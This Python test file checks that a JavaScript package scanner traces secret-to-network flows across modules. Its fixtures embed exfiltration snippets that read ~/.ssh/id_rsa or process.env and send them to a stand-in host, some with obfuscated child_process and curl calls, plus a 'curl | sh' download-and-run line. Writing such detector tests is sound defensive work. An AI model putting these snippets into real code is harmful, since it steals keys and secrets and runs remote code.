"""Flows from file to file: what one module of a bundle exports and another uses."""

from __future__ import annotations

from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sluicegate.vet.inspect.analyzers.javascript import JavaScriptAnalyzer
from sluicegate.vet.inspect.analyzers.jsflow.modules import MOST, JsModules, constants
from sluicegate.vet.inspect.rule import Inspected, Subject
from sluicegate.vet.intake.bundle import Artifact, Bundle, Kind
from sluicegate.vet.intake.views.view import View
from sluicegate.vet.verdict.types import Severity

ANALYZER = JavaScriptAnalyzer()
KINDS = {"ts": Kind.TYPESCRIPT, "tsx": Kind.TYPESCRIPT, "json": Kind.JSON}
KEY = "require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8')"
SEND = "module.exports.send = function (x) { return fetch('https://e.example.com/in', {method: 'POST', body: x}) };"
POST = "export const post = x => fetch('https://e.example.com/in', {method: 'POST', body: x});"


def view(path: str, text: str) -> View:
    kind = KINDS.get(path.rpartition(".")[2], Kind.JAVASCRIPT)
    return View(artifact=Artifact(path=path, data=text.encode(), mode=0, kind=kind), text=text, language=kind)


def inspect(files: Mapping[str, str]) -> Inspected:
    views = tuple(view(path, text) for path, text in files.items())
    bundle = Bundle(name="b", root="", artifacts=tuple(v.artifact for v in views), gaps=(), anomalies=())
    return ANALYZER.inspect(Subject(bundle=bundle, views=views))


FOLLOWED: dict[str, tuple[str, dict[str, str]]] = {
    "a destructured require": ("lib/net.js", {"a.js": f"const {{send}} = require('./lib/net'); send({KEY})", "lib/net.js": SEND}),
    "a member of a require": ("lib/net.js", {"a.js": f"const net = require('./lib/net'); net.send({KEY})", "lib/net.js": SEND}),
    "an object of exports": (
        "net.cjs",
        {
            "a.js": f"const net = require('./net.cjs'); net.send({KEY})",
            "net.cjs": "function send(d) { fetch('https://e.example.com', {body: d}) }\nmodule.exports = { send };",
        },
    ),
    "a source elsewhere": (
        "a.js",
        {"a.js": "const s = require('./src'); fetch('https://e.example.com', {body: s.load()})", "src.js": f"exports.load = () => {KEY};"},
    ),
    "a value elsewhere": (
        "a.mjs",
        {"a.mjs": "import {K} from './src.mjs'; fetch('https://e.example.com', {body: K})", "src.mjs": f"export const K = {KEY};"},
    ),
    "an index file": ("lib/index.js", {"a.js": f"require('./lib').send({KEY})", "lib/index.js": SEND}),
    "the main file of a package": (
        "pkg/src/x.js",
        {"a.js": f"require('./pkg').send({KEY})", "pkg/package.json": '{"main": "src/x"}', "pkg/src/x.js": SEND},
    ),
    "a joined path": (
        "lib/net.js",
        {"a.js": f"const p = require('path'); require(p.join(__dirname, 'lib', 'net')).send({KEY})", "lib/net.js": SEND},
    ),
    "a path in a template": ("lib/net.js", {"a.js": f"require(`${{__dirname}}/lib/net.js`).send({KEY})", "lib/net.js": SEND}),
    "a path in pieces": ("lib/net.js", {"a.js": f"require('./lib' + '/net').send({KEY})", "lib/net.js": SEND}),
    "a dynamic import": ("net.mjs", {"a.mjs": f"const m = await import('./net.mjs'); m.post({KEY})", "net.mjs": POST}),
    "a dynamic import with then": ("net.mjs", {"a.mjs": f"import('./net.mjs').then(m => m.post({KEY}))", "net.mjs": POST}),
    "a default function": (
        "go.mjs",
        {"a.mjs": f"import go from './go.mjs'; go({KEY})", "go.mjs": "export default function (x) { fetch('https://e.example.com', {body: x}) }"},
    ),
    "a default object": (
        "go.mjs",
        {"a.mjs": f"import api from './go.mjs'; api.post({KEY})", "go.mjs": "export default { post(x) { fetch('https://e.example.com', {body: x}) } }"},
    ),
    "a namespace": ("net.mjs", {"a.mjs": f"import * as n from './net.mjs'; n.post({KEY})", "net.mjs": POST}),
    "a re-export by another name": (
        "net.mjs",
        {"a.mjs": f"import {{up}} from './i.mjs'; up({KEY})", "i.mjs": "export { post as up } from './net.mjs';", "net.mjs": POST},
    ),
    "a re-export of all": (
        "net.mjs",
        {"a.mjs": f"import {{post}} from './i.mjs'; post({KEY})", "i.mjs": "export * from './net.mjs';", "net.mjs": POST},
    ),
    "exports spread into exports": (
        "net.js",
        {"a.js": f"require('./all').send({KEY})", "all.js": "module.exports = { ...require('./net') }", "net.js": SEND},
    ),
    "a class": (
        "up.js",
        {
            "a.js": f"const {{Up}} = require('./up'); const u = new Up(); u.push({KEY})",
            "up.js": "class Up { push(d) { fetch('https://e.example.com', {body: d}) } }\nmodule.exports = { Up };",
        },
    ),
    "a class of TypeScript, named as it will be compiled": (
        "up.ts",
        {
            "a.ts": f"import Up from './up.js'; new Up().push({KEY})",
            "up.ts": "export default class Up { async push(d: string): Promise<void> { await fetch('https://e.example.com', {body: d}) } }",
        },
    ),
    "a constructor": (
        "up.js",
        {
            "a.js": f"const Up = require('./up'); new Up({KEY}).go()",
            "up.js": "module.exports = class { constructor(d) { this.d = d } go() { fetch('https://e.example.com', {body: this.d}) } }",
        },
    ),
    "a require of TypeScript": (
        "net.ts",
        {"a.ts": f"import net = require('./net'); net.send({KEY})", "net.ts": "export function send(x: string) { return fetch('https://e.example.com', {body: x}) }"},
    ),
    "a client that is handed on": (
        "a.js",
        {"a.js": f"const http = require('./http'); http.post('https://e.example.com', {KEY})", "http.js": "const axios = require('axios'); module.exports = axios;"},
    ),
    "an address in a data file": (
        "a.js",
        {"a.js": f"const c = require('./c.json'); fetch(c.to.url, {{body: {KEY}}})", "c.json": '{"to": {"url": "https://e.example.com/x"}}'},
    ),
    "arguments of a program": (
        "w.js",
        {"a.js": f"require('child_process').spawn('node', ['./w.js', {KEY}])", "w.js": "fetch('https://e.example.com', {body: process.argv[2]})"},
    ),
    "arguments of a fork": (
        "w.js",
        {"a.js": f"require('child_process').fork('./w.js', [{KEY}])", "w.js": "fetch('https://e.example.com', {body: process.argv[2]})"},
    ),
    "a file in between": (
        "b.js",
        {"a.js": f"require('fs').writeFileSync('/tmp/x', {KEY}); require('./b')", "b.js": "fetch('https://e.example.com', {body: require('fs').readFileSync('/tmp/x')})"},
    ),
    "modules that need each other": (
        "b.js",
        {"a.js": f"const b = require('./b'); exports.k = {KEY}; b.go()", "b.js": "const a = require('./a'); exports.go = () => fetch('https://e.example.com', {body: a.k})"},
    ),
    "a callback of another module": (
        "a.js",
        {"a.js": "require('./rd').read(t => fetch('https://e.example.com', {body: t}))", "rd.js": f"exports.read = cb => cb({KEY})"},
    ),
    "a module by a computed name": (
        "a.js",
        {
            "a.js": "const load = n => require(n); const cp = load(['child', 'process'].join('_')); const {exec: go} = cp;"
            "for (const [k, v] of Object.entries(process.env)) go(`${['cur', 'l'].join('')} https://e.example.com/?${k}=${v}`)"
        },
    ),
    "a secret in the words of a command": (
        "a.js",
        {"a.js": "require('child_process').spawn('curl', ['-d', JSON.stringify(process.env), 'https://e.example.com'])"},
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", FOLLOWED)
def test_a_secret_is_followed_from_file_to_file(name: str) -> None:
    path, files = FOLLOWED[name]
    seen = inspect(files)
    assert not seen.gaps
    assert [(m.rule, m.severity, m.view.path) for m in seen.matches if m.view] == [
        ("js-secret-to-network", Severity.CRITICAL, path)
    ]


@pytest.mark.parametrize(
    ("rule", "files"),
    [
        ("js-decoded-to-exec", {"a.js": "const {code} = require('./d'); eval(code)", "d.js": "exports.code = atob('YWxlcnQoMSk=');"}),
        (
            "js-download-to-exec",
            {"a.mjs": "import {get} from './g.mjs'; eval(await get())", "g.mjs": "export async function get() { return (await fetch('https://e.example.com/p')).text() }"},
        ),
        ("js-download-to-exec", {"a.js": "require('./sh').execSync('curl -s http://192.0.2.1/x | sh')", "sh.js": "module.exports = require('child_process')"}),
    ],
)  # fmt: skip
def test_code_is_followed_from_file_to_file(rule: str, files: dict[str, str]) -> None:
    assert {match.rule for match in inspect(files).matches} == {rule}


@pytest.mark.parametrize(
    "files",
    [
        {
            "a.js": "const {api} = require('./api'); api.get('x')",
            "api.js": "const K = process.env.SERVICE_API_KEY; exports.api = {get: p => fetch('https://api.example.com/' + p,"
            " {headers: {Authorization: `Bearer ${K}`}})}",
        },
        {
            "a.js": "const cfg = require('./config'); fetch(cfg.url, {body: JSON.stringify({a: 1})})",
            "config.js": "module.exports = {url: process.env.URL, mode: process.env.NODE_ENV, env: process.env}",
        },
        {"a.js": "const {fmt} = require('./u'); fetch('https://e.example.com', {body: fmt('x')})", "u.js": f"exports.fmt = s => s.trim(); exports.key = () => {KEY};"},
        {"a.js": "const send = require('send'); send(process.env.HOME)", "send.js": SEND},
        {"a.js": f"require('../lib/net').send({KEY})", "lib/net.js": "exports.send = x => x;"},
        {"a.js": "class A { #key = 1; read() { return this.#key } }\nfetch('https://e.example.com', {body: new A().read()})"},
    ],
)  # fmt: skip
def test_ordinary_modules_are_no_finding(files: dict[str, str]) -> None:
    seen = inspect(files)
    assert (seen.matches, seen.gaps) == ((), ())


def test_a_module_outside_the_bundle_is_never_looked_for() -> None:
    modules = JsModules([view("a.js", ""), view("lib/b.js", "")])
    assert modules.reference("../../../etc/passwd", "a.js") == "../../../etc/passwd"
    assert modules.reference("./lib/b", "a.js") == modules.reference("../lib/b.js", "lib/c.js")
    assert modules.reference("lib/b", "a.js") == "lib/b"
    assert modules.reference("node:fs", "a.js") == "fs"


def test_modules_are_bounded() -> None:
    modules = JsModules([view(f"m{n}.js", "") for n in range(MOST + 5)])
    assert [modules.number(f"m{n}.js") for n in range(MOST + 5)][-6:] == [MOST - 1, -1, -1, -1, -1, -1]


@pytest.mark.parametrize("text", ["", "[1", "[" * 5_000, '{"a": 1e999, "b": {"c": "d"}}', "null", '"x"'])
def test_any_text_may_stand_in_a_data_file(text: str) -> None:
    assert set(constants(view("x.json", text))) <= {"", "b.c"}


PIECES = st.sampled_from(
    ["const a = require('./b')", "module.exports", "exports.a", "export default", "export * from './a'", "export {a as b} from './b'",
     " = ", ";", "\n", "a.x", "b", "(", ")", "{", "}", "...", "class A", "new A", "process.env", "fetch('https://e.example.com', ", "=>",
     "import a from './a'", "import('./b')", ".then(", "\0", "'\\0'", "a['x']", "function f(x)", "return "]
)  # fmt: skip


@settings(max_examples=120, deadline=None)
@given(st.lists(PIECES, max_size=24).map(" ".join), st.lists(PIECES, max_size=24).map(" ".join))
def test_any_two_modules_are_read_and_always_the_same_way(one: str, two: str) -> None:
    files = {"a.js": one + "\nfetch('x')", "b.js": two}
    assert inspect(files) == inspect(files)
